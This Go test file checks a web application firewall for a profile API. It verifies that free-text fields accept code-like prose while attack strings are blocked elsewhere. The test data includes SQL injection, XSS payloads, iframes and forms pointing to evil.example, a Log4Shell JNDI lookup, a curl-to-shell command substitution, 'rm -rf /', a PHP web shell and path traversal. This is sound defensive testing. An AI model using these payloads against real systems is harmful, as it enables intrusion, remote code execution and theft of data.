package firewall

import (
	"net/url"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/profile-api/profile-api/deploy/waf"
)

// What programmers, moderators and templates write.
var (
	innocent = []string{
		"if (x < 3 && y > 4) { return x->y; } // C++", "I teach onClick handlers, document.cookie and XSS research", "having sleep(8) hours is my dream",
		"import os; print('hello')  # python", `print("Hello, World!") is where it began; eval() is evil`, "javascript: the good parts (book)",
		"I select all members from the local union", "between 9 and 5; like '%coffee%'", "${you} know", "Hello {{name}} and ${name}",
		"#{name} <%= name %> {% if x %}", "function(){ return 1 }", `status = "open" AND assignee = me`, "; ls -la | grep x", "select * from t where a=1",
		"Vec<String>, List<Object>, Map<K, Form>", "I write <img> and <canvas> by hand", "see http://127.0.0.1:3000", "http://192.0.2.7/ is mine",
		`Engineer at O'Reilly; C:\Windows\System32\cmd.exe`, "require('child_process')", "class.module.classLoader", "data:text/html, hi",
		"I bring HTTP/3 to trains", "it sends GET /index.html HTTP/1.1", "I write <html> and <meta> by hand", "I <3 <form> and <table>",
		"Optional<Object> considered harmful", "Fn(&str) -> Option<Box<dyn Error>>", "std::vector<std::string> v;", "template <typename T> class Stack {};",
		"<style> belongs in <head>", "Process.spawn and Kernel#exec", "while(true) { drink(coffee) }", "https://example.org is mine, isn't it?",
		"java.lang.Runtime, by heart", "ProcessBuilder fan", "$_GET and $_POST", "tried ../../etc/passwd", "cat /etc/hosts | sort -u", "curl -s https://e.org | sh",
		`git commit -m "fix" && git push`, "SELECT name FROM users WHERE id = 1; -- by heart", "echo $HOME && echo `date`", `find . -name '*.go' -exec gofmt -l {} +`,
		"console.log('hi') all day", "setTimeout(() => life(), 0)", "fetch('/api/me').then(r => r.json())", "window.location and .innerHTML", "<b>bold</b> <i>claims</i>",
		"arr.map(x => x * 2).filter(Boolean)", "this[key] and self['x']", "![] == [] is true", "!![] is true, !![0] is too", "[].map.call`x`", ".htaccess, .bashrc and .ssh/config",
		"phpinfo() and base64_decode", "bash -c 'exit 0'", "python3 -m http.server", "vim ~/.bashrc", "localhost:8080", "process.env and __dirname", "a=1&b=2",
		"x' AND 1=1 in textbooks", "order by 1, group by 2", "@Autowired private List<User> users;", "private List<Object> xs = new ArrayList<>();", "List<Link> and Array<Base>",
		"<T extends Object>", "new Function('return 1')", "String.fromCharCode(65)", "(&(uid=ada)(objectClass=person))", "Content-Type: application/json",
		"DDL, DML: create table, insert into, union select", "sh, bash, zsh; perl -e 'print 1'", "wget, nc -l and ssh", "powershell Get-Process", "xp_cmdshell and pg_sleep(5)",
	}
	quotes = []string{
		`User wrote "'; DROP TABLE users; --" in bio`, "' OR 1=1 --", "`rm -rf /`", "<?php system($_GET[0]); ?>", "../../etc/passwd", "$(curl evil.example|sh)",
		"1' UNION SELECT password FROM users --",
	}
	// runs is what does something by itself in a careless front end.
	runs = []string{
		"Spam: posts <script>alert(1)</script> links", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=https://evil.example></iframe>",
		`<iframe srcdoc="<b>x</b>">`, "<form action=https://evil.example><input name=p></form>", "<a href=javascript:alert(1)>x</a>", `<a title='>' href="javascript&colon;alert(1)">x</a>`,
		"<object data=https://evil.example/x>", "<base href=https://evil.example/>", `<meta http-equiv=refresh content="0;url=https://evil.example">`,
		"<style>@import 'https://evil.example/x.css';</style>", "<style>body{display:none}</style>", "<img src=https://evil.example/pixel.gif>", `" onmouseover=alert(1) x="`,
		"' autofocus onfocus='alert(1)", `" style="background:red`, "List<Object> and <iframe\nsrc\n=//evil.example>", `<button formaction=javascript:alert(1)>x`,
	}
	jndi = "${jndi:ldap://evil.example/a}"
)

func TestTextsPassWhereAnyTextGoes(t *testing.T) {
	t.Parallel()
	if raceDetector {
		withoutTheRaceDetector(t)
		return
	}
	e := engine(t, Options{})
	judge := func(stop bool, c harmless) {
		if v := inspect(t, e, request(c.method, c.uri, c.contentType), c.body); v.Stop != stop {
			t.Errorf("%s %s: %+v, want %v", c.uri, c.body, v, stop)
		}
	}
	both := func(stop bool, c harmless) { // on both routes that take the member
		judge(stop, c)
		c.uri = strings.Replace(strings.Replace(c.uri, "/suspend", "/reactivate", 1), "/v1/profiles/me", adminsProfile, 1)
		judge(stop, c)
	}
	for member, put := range free {
		for _, text := range innocent {
			judge(false, put(text))
		}
		for _, text := range quotes {
			both(false, put(text))
		}
		for _, text := range runs {
			both(member != "json_reason", put(text))
		}
		both(true, put(jndi))
		both(true, put("a\x00b"))
		both(strings.HasSuffix(member, "metadata"), put("__proto__ is a name"))
		both(member != "json_bio", put("Engineer\nLocation: Berlin")) // where the API takes no line breaks
	}
	for _, put := range shown {
		for _, address := range addresses {
			both(false, put(address))
		}
		for _, address := range []string{
			"javascript:alert(1)", "https://e.org/<script>alert(1)</script>", "https://e.org/?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "https://e.org/?id=1' OR 1=1 --", "https://e.org/`rm -rf /`",
			"https://e.org/../../../x", "https://e.org/<?php system($_GET[0]); ?>", "https://e.org/" + jndi, "data:text/html,<b>x</b>",
		} {
			both(true, put(address))
		}
	}
	// An attribute in one member brings the rules on elements back for all.
	judge(false, patched(`{"bio":"List<Object>","location":"I write <img> by hand"}`))
	judge(true, patched(`{"bio":"List<Object>","location":"<u class=x>here</u>"}`))
}

// The same texts, wherever they are not text by contract.
func TestAttacksAreStoppedWhereNoTextGoes(t *testing.T) {
	t.Parallel()
	e := engine(t, Options{})
	stopped := func(where, text string, c harmless, headers ...string) {
		r := request(c.method, c.uri, c.contentType)
		for i := 0; i+1 < len(headers); i += 2 {
			r.Header.Set(headers[i], headers[i+1])
		}
		if v := inspect(t, e, r, c.body); !v.Stop {
			t.Errorf("%s passes in %s: %v", text, where, v.Rules)
		}
	}
	fine := patched(`{"bio":"fine"}`)
	for _, text := range []string{"' OR 1=1 --", "`rm -rf /`", "<?php system($_GET[0]); ?>", "<script>alert(1)</script>", "function(){ return 1 }", jndi} {
		in := func(member string) harmless {
			return patched(`{` + quoted(member) + `:` + quoted(text) + `}`)
		}
		for _, member := range []string{"handle", "banner_url", "theme_color", "locale", "time_zone", "visibility", "links", "unknown", "bio2", "links-label", "links_label", "label"} {
			stopped(member, text, in(member))
		}
		stopped("a link's address", text, patched(`{"links":[{"label":"x","url":`+quoted(text)+`}]}`))
		stopped("another member of a link", text, patched(`{"links":[{"label":"x","title":`+quoted(text)+`}]}`))
		stopped("a name", text, patched(`{`+quoted(text)+`:1}`))
		stopped("preferences", text, harmless{"PATCH", "/v1/profiles/me/preferences", patchJSON, `{"bio":` + quoted(text) + `}`})
		stopped("links of preferences", text, harmless{"PATCH", "/v1/profiles/me/preferences", patchJSON, `{"links":[{"label":` + quoted(text) + `}]}`})
		stopped("a bio of a suspension", text, suspended(`{"bio":`+quoted(text)+`}`))
		stopped("a reason of a profile", text, in("reason"))
		stopped("admins' metadata at one's own profile", text, in("app_metadata"))
		stopped("a query", text, harmless{"GET", "/v1/profiles?handles=" + url.QueryEscape(text), "", ""})
		stopped("the query of a patch", text, harmless{"PATCH", fine.uri + "?bio=" + url.QueryEscape(text), patchJSON, fine.body})
		stopped("a search", text, harmless{"GET", "/v1/admin/profiles?q=" + url.QueryEscape(text), "", ""})
		stopped("a cookie", text, fine, "Cookie", "bio="+text)
	}
	for _, text := range []string{"x\r\nSet-Cookie: a=b", "GET /index.html HTTP/1.1"} {
		stopped("a handle", text, patched(`{"handle":`+quoted(text)+`}`))
		stopped("a query", text, harmless{"GET", "/v1/profiles?handles=" + url.QueryEscape(text), "", ""})
	}
	// Few rules of this level read paths and headers other than cookies.
	for _, text := range []string{"<script>alert(1)</script>", jndi} {
		stopped("a header", text, fine, "User-Agent", text)
	}
	for _, text := range []string{"<script>alert(1)</script>", "../../etc/passwd", jndi} {
		stopped("a path", text, harmless{"PATCH", "/v1/admin/profiles/" + url.PathEscape(text), patchJSON, fine.body})
	}
}

// What the exclusions are for, in numbers: the record of the decision (docs/adr/0025) has them from here.
func TestWithoutExclusionsTextsAreStopped(t *testing.T) {
	t.Parallel()
	if raceDetector {
		withoutTheRaceDetector(t)
		return
	}
	before, err := waf.Files.ReadFile(waf.Before)
	if err != nil {
		t.Fatal(err)
	}
	bare := fstest.MapFS{waf.Before: {Data: []byte(strings.ReplaceAll(string(before), ";ARGS:json", ";ARGS:none"))}}
	for level, least := range map[int]int{1: len(innocent) / 2, 2: len(innocent) * 3 / 4} {
		e, stops := engine(t, Options{ParanoiaLevel: level, Overrides: bare}), 0
		for _, text := range innocent {
			c := free["json_bio"](text)
			if inspect(t, e, request(c.method, c.uri, c.contentType), c.body).Stop {
				stops++
			}
		}
		if stops < least {
			t.Errorf("at level %d only %d of %d texts", level, stops, len(innocent))
		}
		t.Logf("at level %d %d of %d innocent texts are stopped without the exclusions", level, stops, len(innocent))
	}
}
